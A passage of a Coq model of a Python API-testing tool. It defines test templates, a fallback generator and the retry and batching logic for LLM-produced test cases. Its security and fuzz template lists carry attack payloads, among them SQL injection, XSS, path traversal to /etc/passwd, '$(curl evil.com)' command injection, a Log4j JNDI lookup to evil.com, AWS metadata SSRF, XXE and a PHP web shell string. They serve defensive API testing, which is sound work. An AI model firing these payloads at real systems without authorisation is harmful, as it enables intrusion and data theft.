  [("method", JStr method); ("endpoint", JStr endpoint)] ++ payload
  ++ [("expected_status", JArr (map JInt expected_status));
      ("description", JStr description)].

Definition data (v : json) : dict := [("data", v)].
Definition params (v : json) : dict := [("params", v)].
Definition obj (k : string) (v : json) : json := JObj [(k, v)].
Definition field (v : json) : json := obj "field" v.

Definition codes_any : list Z := [200; 201; 400; 403; 404; 422].
Definition codes_query : list Z := [200; 400; 403; 404].
Definition codes_path : list Z := [200; 404; 403].
Definition codes_create : list Z := [200; 201; 400; 404; 422].
Definition codes_list : list Z := [200; 400; 404].
Definition codes_fuzz : list Z := [200; 201; 400; 422].

Definition cr : string := chr 13.
Definition lf : string := chr 10.

Definition security_templates (has_auth : bool) : list dict := [
  (* SQL injection *)
  template "POST" "" (data (field (JStr "'; DROP TABLE users; --"))) codes_any
    "SQL injection - DROP TABLE";
  template "POST" "" (data (field (JStr "' OR '1'='1"))) codes_any
    "SQL injection - OR condition";
  template "POST" "" (data (field (JStr "1' UNION SELECT NULL--"))) codes_any
    "SQL injection - UNION attack";
  template "GET" "" (params (obj "id" (JStr "1 OR 1=1"))) codes_query
    "SQL injection in query param";
  template "POST" "" (data (field (JStr "admin'--"))) codes_any
    "SQL injection - comment bypass";
  (* XSS *)
  template "POST" "" (data (field (JStr "<script>alert('xss')</script>"))) codes_any
    "XSS - script tag";
  template "POST" "" (data (field (JStr "<img src=x onerror=alert('xss')>"))) codes_any
    "XSS - img onerror";
  template "POST" "" (data (field (JStr "javascript:alert('xss')"))) codes_any
    "XSS - javascript protocol";
  template "POST" "" (data (field (JStr "<svg onload=alert('xss')>"))) codes_any
    "XSS - SVG onload";
  template "POST" "" (data (field (JStr "<iframe src='javascript:alert(1)'>"))) codes_any
    "XSS - iframe injection";
  (* path traversal *)
  template "GET" "/../../../etc/passwd" [] codes_path
    "Path traversal - etc/passwd";
  template "GET" "/../../windows/system32/config/sam" [] codes_path
    "Path traversal - Windows SAM";
  template "POST" "" (data (obj "file" (JStr "../../../etc/passwd"))) codes_any
    "Path traversal in POST data";
  template "GET" "" (params (obj "file" (JStr "....//....//etc/passwd"))) codes_query
    "Path traversal - double encoding";
  template "GET" "/%2e%2e%2f%2e%2e%2fetc%2fpasswd" [] codes_path
    "Path traversal - URL encoded";
  (* command injection *)
  template "POST" "" (data (obj "cmd" (JStr "; ls -la"))) codes_any
    "Command injection - ls";
  template "POST" "" (data (obj "cmd" (JStr "| cat /etc/passwd"))) codes_any
    "Command injection - pipe";
  template "POST" "" (data (obj "cmd" (JStr "`whoami`"))) codes_any
    "Command injection - backticks";
  template "POST" "" (data (obj "cmd" (JStr "$(curl evil.com)"))) codes_any
    "Command injection - subshell";
  (* NoSQL injection *)
  template "POST" "" (data (field (obj "$gt" (JStr "")))) codes_any
    "NoSQL injection - $gt operator";
  template "POST" "" (data (field (obj "$ne" JNull))) codes_any
    "NoSQL injection - $ne operator";
  template "POST" "" (data (field (obj "$regex" (JStr ".*")))) codes_any
    "NoSQL injection - regex";
  (* LDAP injection *)
  template "POST" ""
    (data (obj "user" (JStr ("*" +++ ")(uid=*" +++ "))(&(uid=*")))) codes_any
    "LDAP injection";
  template "POST" "" (data (obj "filter" (JStr "admin*"))) codes_any
    "LDAP wildcard injection";
  (* XML/XXE injection *)
  template "POST" ""
    (data (obj "xml" (JStr "<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><foo>&xxe;</foo>")))
    codes_any "XXE injection";
  (* SSRF *)
  template "POST" "" (data (obj "url" (JStr "http://localhost:22"))) codes_any
    "SSRF - localhost scan";
  template "POST" ""
    (data (obj "url" (JStr "http://169.254.169.254/latest/meta-data/"))) codes_any
    "SSRF - AWS metadata";
  template "POST" ""
    (data (obj "callback" (JStr "http://internal-server/admin"))) codes_any
    "SSRF - internal network";
  (* header injection *)
  template "GET" ""
    (params (obj "redirect" (JStr ("http://evil.com" +++ cr +++ lf +++ "X-Injected: header"))))
    codes_query "CRLF injection";
  (* authentication bypass *)
  template "POST" "/admin" [] (if has_auth then [401; 403; 404] else [200; 404])
    "Admin endpoint without auth";
  template "GET" "/users" (params (obj "admin" (JStr "true")))
    (if has_auth then [200; 401; 403; 404] else [200; 404])
    "Privilege escalation attempt";
  (* mass assignment *)
  template "POST" ""
    (data (JObj [("role", JStr "admin"); ("is_superuser", JBool true)])) codes_any
    "Mass assignment - admin role";
  (* file upload *)
  template "POST" "" (data (obj "file" (JStr "<?php system($_GET['cmd']); ?>"))) codes_any
    "PHP shell upload attempt";
  template "POST" "" (data (obj "filename" (JStr "../../shell.php"))) codes_any
    "Path traversal in filename"
].

(** [list(sample_data.keys())[0]], asked for a non-empty [sample_data] only. *)
Definition first_key (sample_data : dict) : string :=
  match sample_data with
  | (k, _) :: _ => k
  | [] => "field"
  end.

Definition nonempty (sample_data : dict) : bool :=
  match sample_data with [] => false | _ => true end.

(** [{**sample_data, **{first_key: v}} if sample_data else {"field": v}] *)
Definition with_first_field (sample_data : dict) (v : json) : json :=
  if nonempty sample_data
  then JObj (dict_set (first_key sample_data) v sample_data)
  else field v.

Definition happy_templates (sample_data : dict) : list dict := [
  template "POST" "" (data (JObj sample_data)) [200; 201; 400; 404]
    "Create resource with valid data";
  template "GET" "/1" [] [200; 404] "Retrieve existing resource";
  template "GET" "" [] [200; 404] "List all resources";
  template "GET" "" (params (JObj [("page", JInt 1); ("limit", JInt 10)])) codes_list
    "List with pagination";
  template "PUT" "/1" (data (JObj sample_data)) [200; 201; 204; 404]
    "Update existing resource";
  template "PATCH" "/1"
    (data (if nonempty sample_data
           then obj (first_key sample_data) (JStr "updated")
           else field (JStr "value")))
    [200; 201; 204; 404] "Partial update";
  template "DELETE" "/1" [] [200; 204; 404] "Delete existing resource";
  template "GET" "" (params (obj "sort" (JStr "asc"))) codes_list "List with sorting";
  template "GET" "" (params (obj "filter" (JStr "active"))) codes_list
    "List with filtering";
  template "GET" "/1" (params (obj "include" (JStr "details"))) [200; 404]
    "Retrieve with includes"
].

(** One [Create missing required field] template for each of the first
    five keys of [sample_data]. *)
Definition missing_field_templates (sample_data : dict) : list dict :=
  map (fun key =>
         template "POST" ""
           (data (JObj (filter (fun kv => negb (String.eqb (fst kv) key)) sample_data)))
           codes_create ("Create missing required field: " +++ key))
      (firstn 5 (dict_keys sample_data)).

Definition negative_templates (sample_data : dict) : list dict := [
  template "POST" "" (data (JObj [])) codes_create "Create with empty body";
  template "POST" "" (data JNull) codes_create "Create with null body";
  template "GET" "/99999" [] [200; 404] "Retrieve non-existent resource";
  template "GET" "/invalid-id" [] codes_list "Retrieve with invalid ID format";
  template "DELETE" "/99999" [] [200; 204; 404] "Delete non-existent resource";
  template "PUT" "/99999" (data (JObj sample_data)) [200; 201; 404]
    "Update non-existent resource";
  template "PATCH" "/99999" (data (field (JStr "value"))) [200; 404]
    "Partial update non-existent";
  template "GET" "" (params (obj "limit" (JInt (-1)))) codes_list
    "List with negative limit";
  template "GET" "" (params (obj "page" (JInt 0))) codes_list "List with zero page";
  template "POST" "" (data (obj "invalid" (JStr "field"))) codes_create
    "Create with invalid fields"
] ++ missing_field_templates sample_data.

Definition edge_templates (sample_data : dict) : list dict := [
  template "POST" "" (data (with_first_field sample_data (JStr (string_mul "a" 10000))))
    [200; 201; 400; 404; 413; 422] "Create with extremely long string";
  template "POST" "" (data (with_first_field sample_data (JStr ""))) codes_create
    "Create with empty string field";
  template "POST" "" (data (with_first_field sample_data JNull)) codes_create
    "Create with null field";
  template "GET" "" (params (obj "limit" (JInt 1000000))) codes_list
    "List with excessive limit";
  template "POST" "" (data (field (JInt (-999999)))) codes_create
    "Create with large negative number";
  template "POST" "" (data (field (JInt 0))) codes_create "Create with zero value";
  template "POST" "" (data (field (JInt 999999999999999))) codes_create
    "Create with very large number";
  template "GET" "" (params (obj "sort" (JStr "invalid"))) codes_list
    "List with invalid sort parameter";
  template "POST" "" (data (field (JStr "   "))) codes_create
    "Create with whitespace only";
  template "POST" "" (data (field (JStr "test emoji"))) [200; 201; 404]
    "Create with special characters"
].

Definition float_max : spec_float := S754_finite false 9007199254740991 971.
Definition float_1e_25 : spec_float := S754_finite false 8711228593176025 (-136).
Definition float_inf : spec_float := S754_infinity false.

Definition nul : string := chr 0.

Definition fuzz_templates : list dict := [
  (* malformed data *)
  template "POST" "" (data (field (JStr (string_mul "A" 100000)))) [200; 201; 400; 413; 422]
    "Fuzz: Extremely large string payload (100k chars)";
  template "POST" "" (data (field (JStr (nul +++ chr 1 +++ chr 2 +++ chr 3 +++ chr 4))))
    codes_fuzz "Fuzz: Binary/null bytes in string field";
  (* U+0000, U+FFFF and U+D800, as bytes *)
  template "POST" ""
    (data (field (JStr (nul +++ chr 239 +++ chr 191 +++ chr 191
                        +++ chr 237 +++ chr 160 +++ chr 128))))
    codes_fuzz "Fuzz: Invalid unicode characters";
  template "POST" "" (data (field (JStr "%s%s%s%s%s%s%s%s%s%s"))) codes_fuzz
    "Fuzz: Format string attack vector";
  (* type confusion *)
  template "POST" "" (data (field (JArr [JInt 1; JInt 2; JInt 3]))) codes_fuzz
    "Fuzz: Array instead of string";
  template "POST" "" (data (field (obj "nested" (JStr "object")))) codes_fuzz
    "Fuzz: Object instead of primitive";
  template "POST" "" (data (field (JBool true))) codes_fuzz
    "Fuzz: Boolean instead of string";
  template "POST" "" (data (JObj [])) codes_fuzz "Fuzz: Completely empty object";
  (* encoding *)
  template "POST" "" (data (field (JStr "%00%00%00%00"))) codes_fuzz
    "Fuzz: URL-encoded null bytes";
  template "POST" "" (data (field (JStr (dquote +++ "><script>alert(1)</script>"))))
    codes_fuzz "Fuzz: HTML context breaking";
  template "POST" "" (data (field (JStr ("../../../etc/passwd" +++ nul +++ ".jpg"))))
    [200; 201; 400; 403; 422] "Fuzz: Null byte injection with path traversal";
  (* integer overflow and underflow *)
  template "POST" "" (data (field (JInt 2147483647))) codes_fuzz
    "Fuzz: Max 32-bit integer (INT_MAX)";
  template "POST" "" (data (field (JInt (-2147483648)))) codes_fuzz
    "Fuzz: Min 32-bit integer (INT_MIN)";
  template "POST" "" (data (field (JInt 9223372036854775807))) codes_fuzz
    "Fuzz: Max 64-bit integer";
  template "POST" "" (data (field (JInt (-9223372036854775808)))) codes_fuzz
    "Fuzz: Min 64-bit integer";
  (* special characters *)
  template "POST" ""
    (data (field (JStr ("!@#$%^&*" +++ "()_+-={}[]|\:;" +++ dquote +++ "'<>,.?/~`"))))
    codes_fuzz "Fuzz: All special characters";
  template "POST" "" (data (field (JStr (lf +++ cr +++ chr 9 +++ chr 8 +++ chr 12))))
    codes_fuzz "Fuzz: Control characters (newline, tab, etc)";
  template "POST" "" (data (field (JStr "' OR '1'='1' --"))) codes_fuzz
    "Fuzz: SQL injection payload";
  template "POST" "" (data (field (JStr "${jndi:ldap://evil.com/a}"))) codes_fuzz
    "Fuzz: Log4j RCE payload (CVE-2021-44228)";
  (* long query parameter and path *)
  template "GET" "" (params (obj "param" (JStr (string_mul "A" 10000)))) [200; 400; 414]
    "Fuzz: Extremely long query parameter";
  template "GET" ("/" +++ string_mul "A" 5000) [] [200; 404; 414]
    "Fuzz: Extremely long URL path";
  (* nesting *)
  template "POST" ""
    (data (field (JArr [JArr [JArr [JArr [JArr [JArr [JStr "deeply"; JStr "nested"]]]]]])))
    codes_fuzz "Fuzz: Deeply nested arrays";
  template "POST" ""
    (data (obj "a" (obj "b" (obj "c" (obj "d" (obj "e" (obj "f" (JStr "deep"))))))))
    codes_fuzz "Fuzz: Deeply nested objects";
  (* floats *)
  template "POST" "" (data (field (JFloat float_max))) codes_fuzz "Fuzz: Max float value";
  template "POST" "" (data (field (JFloat float_1e_25))) codes_fuzz
    "Fuzz: Extremely small float";
  template "POST" "" (data (field (JFloat float_inf))) codes_fuzz "Fuzz: Infinity value";
  (* a dictionary display with the key twice keeps the last value *)
  template "POST" "" (data (field (JStr "second"))) codes_fuzz
    "Fuzz: Duplicate JSON keys";
  (* CRLF injection *)
  template "GET" ""
    (params (obj "param" (JStr ("value" +++ cr +++ lf +++ "X-Injected: true"))))
    [200; 400] "Fuzz: CRLF injection in parameter";
  (* buffer overflow *)
  template "POST" "" (data (field (JStr (string_mul "A" 1000000))))
    [200; 201; 400; 413; 422; 500]
    "Fuzz: 1MB string payload (potential buffer overflow)";
  (* race condition *)
  template "DELETE" "/1" [] [200; 204; 404]
    "Fuzz: DELETE non-existent (race condition test)";
  (* polyglot *)
  template "POST" ""
    (data (field (JStr ("javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"
                        +++ dquote +++ "/+/onmouseover=1/+/[*/[]/+alert(1)//'>"))))
    codes_fuzz "Fuzz: Polyglot XSS payload";
  (* JSON injection *)
  template "POST" ""
    (data (field (JStr ("{" +++ dquote +++ "injected" +++ dquote +++ ": " +++ dquote
                        +++ "json" +++ dquote +++ "}"))))
    codes_fuzz "Fuzz: JSON string injection"
].

(** *** The template test bank *)

(** [test['category'] = category; test.setdefault('params', None);
    test.setdefault('data', None); test['validate_body'] = False] *)
Definition categorize (category : string) (test : dict) : dict :=
  dict_set "validate_body" (JBool false)
    (dict_setdefault "data" JNull
       (dict_setdefault "params" JNull
          (dict_set "category" (JStr category) test))).

(** [test['description'] = f"{test['description']} (variant {k})"]; every
    template has a description, which is a string. *)
Definition variant (k : nat) (test : dict) : dict :=
  match dict_get "description" test with
  | Some (JStr d) =>
      dict_set "description" (JStr (d +++ " (variant " +++ string_of_nat k +++ ")")) test
  | _ => test
  end.

(** The first [count] shuffled security templates, then, if more are
    needed than there are, a second round with a variant suffix. *)
Definition security_tests (templates : list dict) (count : Z) : list dict :=
  map (fun i => categorize "security_test" (nth i templates []))
      (range (Z.min count (len templates)))
  ++ (if len templates <? count then
        map (fun i =>
               dict_set "validate_body" (JBool false)
                 (dict_setdefault "data" JNull
                    (dict_setdefault "params" JNull
                       (variant (i + 1)
                          (dict_set "category" (JStr "security_test")
                             (nth (Nat.modulo i (List.length templates)) templates []))))))
            (range (count - len templates))
      else []).

(** [for i in range(count): test = templates[i % len(templates)].copy() ...] *)
Definition cycled_tests (category : string) (templates : list dict) (count : Z)
  : list dict :=
  map (fun i =>
         let test := categorize category
                       (nth (Nat.modulo i (List.length templates)) templates []) in
         if (List.length templates <=? i)%nat
         then variant (i / List.length templates + 1) test
         else test)
      (range count).

Definition _generate_fallback_tests (api_url : string) (sample_data : dict)
  (num : Z) (has_auth : bool) (g : rng) : result (list dict * rng) :=
  counts <- fallback_counts num ;;
  let (shuffled, g) := shuffle (security_templates has_auth) g in
  let all_tests :=
    security_tests shuffled (security_test counts)
    ++ cycled_tests "happy_path" (happy_templates sample_data) (happy_path counts)
    ++ cycled_tests "negative_test" (negative_templates sample_data) (negative_test counts)
    ++ cycled_tests "edge_case" (edge_templates sample_data) (edge_case counts)
    ++ cycled_tests "fuzz_test" fuzz_templates (fuzz_test counts) in
  let (all_tests, g) := shuffle all_tests g in
  Ok (slice_to all_tests num, g).

(** The number of tests of a list that are of a category. *)
Definition has_category (category : string) (test : dict) : bool :=
  match dict_get "category" test with
  | Some (JStr c) => String.eqb c category
  | _ => false
  end.

Definition category_count (category : string) (tests : list dict) : nat :=
  List.length (filter (has_category category) tests).

(** *** The generation orchestrator *)

(** What one call of the provider comes to, once the text of the reply has
    been stripped of its code fences and handed to [json.loads]. *)
Inductive Reply :=
| ReplyError                 (* the call raises, or the reply carries no text *)
| ReplyBlank                 (* the text is empty or blank *)
| ReplyNoJson                (* nothing is left once the fences are removed *)
| ReplyMalformed             (* [json.loads] raises [JSONDecodeError] *)
| ReplyJson (parsed : json).

(** [self.client]: [None] without a key, else the replies of its calls,
    numbered from 0. *)
Definition Client := option (nat -> Reply).

Section Generator.
Context `{Builtins}.

(** [int(v)] *)
Definition py_int (v : json) : result Z :=
  match v with
  | JInt n => Ok n
  | JBool b => Ok (if b then 1 else 0)
  | JFloat x => py_int_of_float x
  | JStr s =>
      match py_int_of_str s with
      | Some n => Ok n
      | None => Raise (ValueError "invalid literal for int() with base 10")
      end
  | _ => Raise (TypeError ("int() argument must be a string, a bytes-like object or a real number, not '"
                           +++ type_name v +++ "'"))
  end.

Definition default_key (key : string) (v : json) (tc : dict) : dict :=
  if dict_has key tc then tc else dict_set key v tc.

Definition _validate_and_fix_test_case (tc : dict) : result dict :=
  let tc := default_key "method" (JStr "GET") tc in
  let tc := default_key "expected_status" (JInt 200) tc in
  let tc := default_key "description"
              (JStr (py_str (get_or tc "method" JNull) +++ " test")) tc in
  let tc := dict_setdefault "endpoint" (JStr "") tc in
  let tc := dict_setdefault "data" JNull tc in
  let tc := dict_setdefault "category" (JStr "other") tc in
  let tc := dict_setdefault "params" JNull tc in
  let tc := dict_setdefault "validate_body" (JBool false) tc in
  match get_or tc "method" JNull with
  | JStr method =>
      let tc := dict_set "method" (JStr (py_upper method)) tc in
      match py_int (get_or tc "expected_status" JNull) with
      | Ok n => Ok (dict_set "expected_status" (JInt n) tc)
      | Raise (ValueError _) | Raise (TypeError _) =>
          Ok (dict_set "expected_status" (JInt 200) tc)
      | Raise e => Raise e
      end
  | v => Raise (no_attribute v "upper")
  end.

(** The loop that fills [valid_cases]: an item that is not a dictionary,
    or whose fixing raises, is left out. *)
Definition validated_cases (test_cases : list json) : list dict :=
  flat_map (fun tc =>
              match tc with
              | JObj d =>
                  match _validate_and_fix_test_case d with
                  | Ok fixed_tc => [fixed_tc]
                  | Raise _ => []
                  end
              | _ => []
              end) test_cases.

(** The [tests] entry of a dictionary, or the reply itself when it is a
    list; [None] where the source raises [ValueError]. *)
Definition tests_of_parsed (parsed : json) : option json :=
  match parsed with
  | JObj kvs => dict_get "tests" kvs
  | JArr _ => Some parsed
  | _ => None
  end.

Definition fallback (api_url : string) (sample_data : dict) (num : Z)
  (has_auth : bool) (g : rng) : result (list dict * bool * rng) :=
  r <- _generate_fallback_tests api_url sample_data num has_auth g ;;
  Ok (fst r, true, snd r).

(** [max(1, int(num_tests * 0.8))] *)
Definition min_acceptable (num_tests : Z) : result Z :=
  share_count 1 num_tests (float_lit 8 10).

Definition max_retries : nat := 3.

(** How one turn of the retry loop ends. *)
Inductive Step :=
| Return (tests : list dict)     (* [return ..., False] *)
| Continue                       (* [continue] *)
| UseFallback.                   (* [return self._generate_fallback_tests(...), True] *)

Definition attempt_step (num_tests : Z) (attempt : nat) (reply : Reply) : Step :=
  let on_last := if Nat.eqb attempt (max_retries - 1) then UseFallback else Continue in
  let retry := if (attempt <? max_retries - 1)%nat then Continue else UseFallback in
  match reply with
  | ReplyError => on_last
  | ReplyBlank => on_last
  | ReplyNoJson => Continue
  | ReplyMalformed => retry
  | ReplyJson parsed =>
      match tests_of_parsed parsed with
      | Some (JArr test_cases) =>
          let valid_cases := validated_cases test_cases in
          match min_acceptable num_tests with
          | Raise _ => on_last
          | Ok minimum =>
              if num_tests <=? len valid_cases then
                Return (slice_to valid_cases num_tests)
              else if minimum <=? len valid_cases then Return valid_cases
              else retry
          end
      | _ => retry
      end
  end.

(** [for attempt in range(max_retries)], from [attempt] on; [None] when
    the fallback is to be used. *)
Fixpoint attempts (remaining attempt : nat) (num_tests : Z) (replies : nat -> Reply)
  : option (list dict) :=
  match remaining with
  | O => None
  | S remaining' =>
      match attempt_step num_tests attempt (replies attempt) with
      | Return tests => Some tests
      | Continue => attempts remaining' (S attempt) num_tests replies
      | UseFallback => None
      end
  end.

Definition _generate_single_batch (api_url : string) (sample_data : dict)
  (num_tests : Z) (test_types : list string) (has_auth : bool)
  (batch_num total_batches : Z) (client : option Reply) (g : rng)
  : result (list dict * bool * rng) :=
  let whole := fallback api_url sample_data num_tests has_auth g in
  match client with
  | Some (ReplyJson parsed) =>
      match tests_of_parsed parsed with
      | None => whole
      | Some test_cases =>
          match py_iter test_cases with
          | Raise _ => whole
          | Ok items =>
              let valid_cases := validated_cases items in
              match py_mul_int_float num_tests (float_lit 7 10) with
              | Raise _ => whole
              | Ok threshold =>
                  if py_ge_int_float (len valid_cases) threshold then
                    Ok (valid_cases, false, g)
                  else
                    let shortfall := num_tests - len valid_cases in
                    match _generate_fallback_tests api_url sample_data shortfall has_auth g with
                    | Ok (extra, g') => Ok (valid_cases ++ extra, true, g')
                    | Raise _ => whole
                    end
              end
          end
      end
  | _ => whole
  end.

Definition batch_size : Z := 40.

Definition total_batches (num_tests : Z) : Z :=
  (num_tests + batch_size - 1) / batch_size.

(** The loop that fills [tests_per_batch]. *)
Fixpoint batch_counts (batches : nat) (remaining : Z) : list Z :=
  match batches with
  | O => []
  | S batches' =>
      let batch_count := Z.min batch_size remaining in
      batch_count :: batch_counts batches' (remaining - batch_count)
  end.

Definition tests_per_batch (num_tests : Z) : list Z :=
  batch_counts (Z.to_nat (total_batches num_tests)) num_tests.

(** [for batch_idx in range(total_batches)], from [batch_idx] on. *)
Fixpoint run_batches (api_url : string) (sample_data : dict)
  (test_types : list string) (has_auth : bool) (total : Z) (client : Client)
  (counts : list Z) (batch_idx : nat)
  (all_tests : list dict) (used_fallback : bool) (g : rng)
  : result (list dict * bool * rng) :=
  match counts with
  | [] => Ok (all_tests, used_fallback, g)
  | batch_test_count :: rest =>
      r <- _generate_single_batch api_url sample_data batch_test_count test_types
             has_auth (Z.of_nat batch_idx + 1) total
             (option_map (fun replies => replies batch_idx) client) g ;;
      let '(batch_tests, batch_fallback, g') := r in
      run_batches api_url sample_data test_types has_auth total client rest
        (S batch_idx) (all_tests ++ batch_tests) (used_fallback || batch_fallback) g'
  end.

Definition _generate_test_cases_batched (api_url : string) (sample_data : dict)
  (num_tests : Z) (test_types : list string) (has_auth : bool)
  (client : Client) (g : rng) : result (list dict * bool * rng) :=
  r <- run_batches api_url sample_data test_types has_auth (total_batches num_tests)
         client (tests_per_batch num_tests) 0%nat [] false g ;;
  let '(all_tests, used_fallback, g) := r in
  if len all_tests <? num_tests then
    let shortfall := num_tests - len all_tests in
    e <- _generate_fallback_tests api_url sample_data shortfall has_auth g ;;
    Ok (slice_to (all_tests ++ fst e) num_tests, true, snd e)
  else Ok (slice_to all_tests num_tests, used_fallback, g).

(** A [test_types] of [None] stands for the four default categories, named
    in the prompt only. *)
Definition generate_test_cases (api_url : string) (sample_data : dict)
  (num_tests : Z) (test_types : option (list string)) (has_auth : bool)
  (client : Client) (g : rng) : result (list dict * bool * rng) :=
  let test_types :=
    match test_types with
    | Some types => types
    | None => ["happy_path"; "edge_cases"; "negative_tests"; "security_tests"]
    end in
  if 50 <? num_tests then
    _generate_test_cases_batched api_url sample_data num_tests test_types has_auth client g
  else
    match client with
    | None => fallback api_url sample_data num_tests has_auth g
    | Some replies =>
        match attempts max_retries 0 num_tests replies with
        | Some tests => Ok (tests, false, g)
        | None => fallback api_url sample_data num_tests has_auth g
        end
    end.

End Generator.

(* ================================================================== *)
(** ** Instances and predicates used in the statements *)

(** Builtins that print nothing and parse nothing, to run the model. *)
Definition plain_builtins : Builtins :=
  {| py_repr := fun _ => "";
     format_2f := fun _ => "";
     py_upper := fun s => s;
     py_int_of_str := fun _ => None;
     jsonschema_validate := fun _ _ => Conforms |}.

(** The number of times the field name [f] is listed. *)
Definition names_field (f : string) (v : json) : bool :=
  match v with JStr s => String.eqb s f | _ => false end.

Definition listed (f : string) (required : list json) : nat :=
  List.length (filter (names_field f) required).

(** Builtins whose [jsonschema.validate] refuses a schema the [type] of
    which is a number, as the library does, with [SchemaError]. *)
Definition refusing_builtins : Builtins :=
  {| py_repr := fun _ => "";
     format_2f := fun _ => "";
     py_upper := fun s => s;
     py_int_of_str := fun _ => None;
     jsonschema_validate := fun _ schema =>
       match schema with
       | JObj kvs =>
           match dict_get "type" kvs with
           | Some (JInt n) =>
               SchemaRaises
                 (LibraryError "SchemaError"
                    (string_of_Z n +++ " is not valid under any of the given schemas"))
           | _ => Conforms
           end
       | _ => Conforms
       end |}.

(** A tester with an empty log, and a world in which the call ends in [o]. *)
Definition fresh_tester : APITester :=
  {| base_url := "http://localhost:8000"; results := []; auth_config := [];
     timeout := 10; analyzer_on := false |}.

(** A tester whose API key is to go under a name that cannot be hashed. *)
Definition keyed_tester : APITester :=
  {| base_url := "http://localhost:8000"; results := [];
     auth_config := [("type", JStr "api_key"); ("api_key", JStr "secret");
                     ("key_name", JArr [])];
     timeout := 10; analyzer_on := false |}.

Definition world_of (o : Outcome) : World :=
  {| outcome := o; now := "2024-01-01 00:00:00"; analysis := JNull |}.

(** A 404 whose body is a page of HTML, and a 200 with a JSON body. *)
Definition html_404 : Response :=
  {| status_code := 404; text := "<html>Not Found</html>"; json_body := None;
     elapsed := S754_zero false |}.

Definition json_200 : Response :=
  {| status_code := 200; text := "{}"; json_body := Some (JObj []);
     elapsed := S754_zero false |}.

(** A float that is a zero, or finite with a mantissa below [2^D] and an
    exponent of at most [E]. *)
Definition finite_below (D E : Z) (x : spec_float) : Prop :=
  match x with
  | S754_zero _ => True
  | S754_finite _ m e => Z.pos m < 2 ^ D /\ e <= E
  | _ => False
  end.

(** [sys.maxsize], the largest length a list can have. *)
Definition PY_SSIZE_T_MAX : Z := 9223372036854775807.

(** The count the distribution gives to a category. *)
Definition count_for (c : Counts) (category : string) : Z :=
  if String.eqb category "security_test" then security_test c
  else if String.eqb category "happy_path" then happy_path c
  else if String.eqb category "negative_test" then negative_test c
  else if String.eqb category "edge_case" then edge_case c
  else if String.eqb category "fuzz_test" then fuzz_test c
  else 0.

Definition b2n (b : bool) : nat := if b then 1%nat else 0%nat.

(** The number of bits by which rounding shifts a mantissa [m] of exponent [e]. *)
Definition shift_of (m e : Z) : Z := Z.max 0 (fexp 53 1024 (Zdigits2 m + e) - e).

(** [n] times [share_factor m e] bounds [2^232] times [int(n * x)] for the
    float [x = m * 2^e]: the value of [x], with the two roundings of the
    product counted for one part in [2^52] each. *)
Definition share_factor (m : positive) (e : Z) : Z :=
  Z.pos m * 2 ^ (e + 64) * (2 ^ 64 * ((2 ^ 52 + 1) * (2 ^ 52 + 1))).

(** [round(x)]: to the nearest integer, a tie to the even one. *)
Definition py_round (x : spec_float) : result Z :=
  match x with
  | S754_zero _ => Ok 0
  | S754_finite s m e =>
      Ok (cond_Zopp s
            (if 0 <=? e then Z.pos m * 2 ^ e
             else
               let q := Z.pos m / 2 ^ (- e) in
               let r := Z.pos m mod 2 ^ (- e) in
               match 2 * r ?= 2 ^ (- e) with
               | Lt => q
               | Gt => q + 1
               | Eq => if Z.even q then q else q + 1
               end))
  | S754_infinity _ => Raise (OverflowError "cannot convert float infinity to integer")
  | S754_nan => Raise (ValueError "cannot convert float NaN to integer")
  end.

(** The number of tests of a category in what a generation returns. *)
Definition returned_count (category : string) (r : result (list dict * rng))
  : option nat :=
  match r with
  | Ok (tests, _) => Some (category_count category tests)
  | Raise _ => None
  end.

(** The length of the list a generation returns, and its fallback flag. *)
Definition returned_length (r : result (list dict * bool * rng)) : option (nat * bool) :=
  match r with
  | Ok (tests, used_fallback, _) => Some (List.length tests, used_fallback)
  | Raise _ => None
  end.

Definition sum_Z (l : list Z) : Z := fold_right Z.add 0 l.

(** A provider whose every reply is a [tests] list of [k] empty items. *)
Definition replies_with (k : nat) : nat -> Reply :=
  fun _ => ReplyJson (JObj [("tests", JArr (repeat (JObj []) k))]).

(** A violation of another kind than a missing required field. *)
Definition other_kind (v : SchemaViolation) : Prop :=
  sv_type v <> "missing_required_field".

(* ================================================================== *)
(** ** Further functions of the two files, and the predicates of their
       properties *)

(** *** Fixing a test case *)

(** The keys every test case has once [_validate_and_fix_test_case] is done. *)
Definition fixed_keys : list string :=
  ["method"; "expected_status"; "description"; "endpoint"; "data"; "category";
   "params"; "validate_body"].

(** [float("inf")] and [float("-inf")] *)
Definition infinite (v : json) : bool :=
  match v with JFloat (S754_infinity _) => true | _ => false end.

Section FixDefaults.
Context `{Builtins}.

(** The test case of [_validate_and_fix_test_case] once the defaults are in,
    before [upper] and [int]. *)
Definition with_defaults (tc : dict) : dict :=
  let tc := default_key "method" (JStr "GET") tc in
  let tc := default_key "expected_status" (JInt 200) tc in
  let tc := default_key "description"
              (JStr (py_str (get_or tc "method" JNull) +++ " test")) tc in
  let tc := dict_setdefault "endpoint" (JStr "") tc in
  let tc := dict_setdefault "data" JNull tc in
  let tc := dict_setdefault "category" (JStr "other") tc in
  let tc := dict_setdefault "params" JNull tc in
  dict_setdefault "validate_body" (JBool false) tc.

End FixDefaults.

(** *** The summary of a run and the verdict on one request *)

(** An [int] as the exact operand of a true division. *)
Definition int_as_float (n : Z) : spec_float :=
  match n with
  | 0 => S754_zero false
  | Zpos p => S754_finite false p 0
  | Zneg p => S754_finite true p 0
  end.

(** [a / b] on two [int]s with [b] not zero: the correctly rounded quotient. *)
Definition py_truediv_int (a b : Z) : spec_float :=
  SFdiv prec emax (int_as_float a) (int_as_float b).

Record Summary := {
  total : Z;
  passed : Z;
  failed : Z;
  pass_rate : json
}.

(** [APITester.get_summary] *)
Definition get_summary (self : APITester) : Summary :=
  let total := len (results self) in
  let passed :=
    len (filter (fun r => match status r with PASS => true | FAIL => false end)
           (results self)) in
  let failed := total - passed in
  {| total := total; passed := passed; failed := failed;
     pass_rate := if 0 <? total
                  then JFloat (SFmul prec emax (py_truediv_int passed total)
                                 (float_of_Z 100))
                  else JInt 0 |}.

Section Verdict.
Context `{Builtins}.

(** When a request is logged as passed: the method is one the tester
    sends, the call is answered, the status is the expected one and the
    body, if it is to be checked, is valid. *)
Definition request_passes (w : World)
  (method expected_status expected_body expected_schema validate_body : json) : bool :=
  supported_method method
  && match outcome w with
     | Responded response =>
         status_match (status_code response) expected_status
         && (negb (py_truthy validate_body)
             || match _validate_response_body response expected_body
                        expected_schema with
                | Returns (body_valid, _) => body_valid
                | Escapes _ => false
                end)
     | _ => false
